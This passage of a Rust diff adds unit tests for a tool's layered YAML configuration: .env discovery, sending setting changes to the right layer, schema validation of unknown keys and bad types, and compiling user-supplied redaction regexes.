+        assert!(files.contains(&PathBuf::from("/home/me/.cargo-doc-viewer/.env")));
+        assert!(files.contains(&env::current_dir().unwrap().join(".env")));
+    }
+
+    #[test]
+    fn settings_changes_go_to_the_layer_that_sets_them() {
+        let layer = |label, path: &str| ConfigLayer {
+            label,
+            path: PathBuf::from(path),
+        };
+        let yaml = |raw: &str| serde_yaml::from_str::<serde_yaml::Value>(raw).unwrap();
+        let mut documents = vec![
+            (
+                layer("global", "config.yaml"),
+                yaml("ui:\n  language: en\n"),
+                false,
+            ),
+            (
+                layer("project", PROJECT_CONFIG_FILE),
+                yaml("prompts:\n  system: team\napi:\n  model: team\n"),
+                false,
+            ),
+        ];
+        let path = |dotted: &str| dotted.split('.').map(str::to_string).collect::<Vec<_>>();
+        apply_changes(
+            &mut documents,
+            vec![
+                (path("prompts.system"), yaml("shared")),
+                (path("ui.language"), yaml("fr")),
+                (path("context.history_window"), yaml("4")),
+                (path("api.model"), yaml("mine")),
+            ],
+        );
+
+        let (_, global, global_dirty) = &documents[0];
+        let (_, project, _) = &documents[1];
+        assert!(global_dirty);
+        assert_eq!(
+            lookup_path(project, &path("prompts.system")),
+            Some(&yaml("shared"))
+        );
+        assert_eq!(lookup_path(global, &path("ui.language")), Some(&yaml("fr")));
+        // Defaults-only values stay personal, even in a project section.
+        assert_eq!(
+            lookup_path(global, &path("context.history_window")),
+            Some(&yaml("4"))
+        );
+        assert!(lookup_path(project, &path("context.history_window")).is_none());
+        // A project file cannot take credentials-related settings.
+        assert_eq!(lookup_path(global, &path("api.model")), Some(&yaml("mine")));
+        assert_eq!(
+            lookup_path(project, &path("api.model")),
+            Some(&yaml("team"))
+        );
+    }
+
+    #[test]
+    fn layer_checks_report_unknown_keys_and_type_errors() {
+        let schema = config_schema();
+        let path = Path::new("team.yaml");
+        let mut problems = Vec::new();
+        let raw = "api:\n  modle: x\nprofiles:\n  local:\n    provider: ollama\n    header: {}\ncontext:\n  sanitize_patterns:\n    - regex: a\n      flags: g\nextra: 1\n";
+        assert!(check_layer(path, raw, &schema, &mut problems).is_some());
+        let messages: Vec<String> = problems.iter().map(ToString::to_string).collect();
+        assert_eq!(
+            messages,
+            [
+                "team.yaml: unknown key `api.modle`",
+                "team.yaml: unknown key `profiles.local.header`",
+                "team.yaml: unknown key `context.sanitize_patterns[0].flags`",
+                "team.yaml: unknown key `extra`",
+            ]
+        );
+
+        problems.clear();
+        let raw = "api:\n  timeout_ms: soon\n";
+        assert!(check_layer(path, raw, &schema, &mut problems).is_none());
+        assert_eq!(problems[0].position, Some((2, 15)));
+        assert!(
+            problems[0]
+                .message
+                .starts_with("api.timeout_ms: invalid type")
+        );
+    }
+
+    #[test]
+    fn sanitize_patterns_compile_like_the_panel() {
+        let mut cfg = AppConfig::default();
+        cfg.context.sanitize_patterns = ["(?i)token=\\w+", "(?<=key=)\\w+", "(?i)open(", "[z-a]"]
+            .iter()
+            .map(|regex| SanitizePattern {
+                regex: regex.to_string(),
+                replacement: String::new(),
+            })
+            .collect();
+        let problems = check_sanitize_patterns(&cfg);
+        let fields: Vec<&str> = problems.iter().map(|p| p.field.as_str()).collect();
+        assert_eq!(
+            fields,
+            [
+                "context.sanitize_patterns[2].regex",
+                "context.sanitize_patterns[3].regex"
+            ]
+        );
+    }
 }